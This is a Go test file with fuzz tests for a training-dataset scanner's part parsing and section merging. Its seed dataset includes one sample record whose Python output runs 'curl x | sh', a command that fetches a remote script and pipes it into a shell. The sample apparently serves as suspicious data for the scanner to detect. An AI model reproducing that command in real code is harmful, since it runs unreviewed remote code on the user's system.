package data

import (
	"bytes"
	"context"
	"errors"
	"io"
	"testing"
)

// fuzzDataset is the dataset FuzzMergeSection merges fuzzed sections of.
var fuzzDataset = []byte("{\"instruction\":\"a b c\",\"output\":\"d e f. Visit https://x.example now\"}\n{bad\n\n" +
	"{\"instruction\":\"write code\",\"output\":\"```python\\nimport os\\nos.system('curl x | sh')\\n```\"}\n" +
	"{\"instruction\":\"a b c\",\"output\":\"d e f. Visit https://x.example now\"}\n")

// FuzzParsePart: any bytes are a part or an ErrPart error, never a panic;
// a part parsed encodes to bytes that parse to the same part.
func FuzzParsePart(f *testing.F) {
	f.Add([]byte(`{"type":"https://mlattest.dev/dataset-scan-part/v1","shards":1,"files":1}`))
	f.Fuzz(func(t *testing.T, in []byte) {
		p, err := ParsePart(in)
		if err != nil {
			if !errors.Is(err, ErrPart) {
				t.Fatalf("error not ErrPart: %v", err)
			}
			return
		}
		b, err := p.Marshal()
		if err != nil {
			t.Fatal(err)
		}
		q, err := ParsePart(b)
		if err != nil {
			t.Fatalf("re-encoded part refused: %v", err)
		}
		if c, err := q.Marshal(); err != nil || !bytes.Equal(b, c) {
			t.Fatalf("the part changed in a round trip: %s\n%s", b, c)
		}
	})
}

// FuzzMergeSection: whatever bytes a part's section holds, merge gives a
// result or an error, never a panic, and a section that does not hold
// the records it says is an error.
func FuzzMergeSection(f *testing.F) {
	var buf bytes.Buffer
	sec, err := ScanSection(context.Background(), "f.jsonl", bytes.NewReader(fuzzDataset), FormatJSONL, 0, int64(len(fuzzDataset)), &buf)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(buf.Bytes(), uint16(sec.Records), uint16(sec.Lines))
	// A small sketch and feature table: a merge per input.
	small := func(c *Config) { c.SketchWidth, c.MaxFeatures = 1<<10, 1<<10 }
	f.Fuzz(func(t *testing.T, in []byte, records, lines uint16) {
		open := func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(fuzzDataset)), nil }
		src := SectionSource{End: int64(len(fuzzDataset)), SHA256: sec.SHA256, Records: int(records), Lines: int(lines), Open: func() (io.ReadCloser, error) { return io.NopCloser(bytes.NewReader(in)), nil }}
		res, err := Merge(context.Background(), "f.jsonl", FormatJSONL, open, []SectionSource{src}, WithMinSupport(2), small)
		if err == nil && res.Records != int(records) {
			t.Fatalf("%d records from a section that says %d", res.Records, records)
		}
	})
}
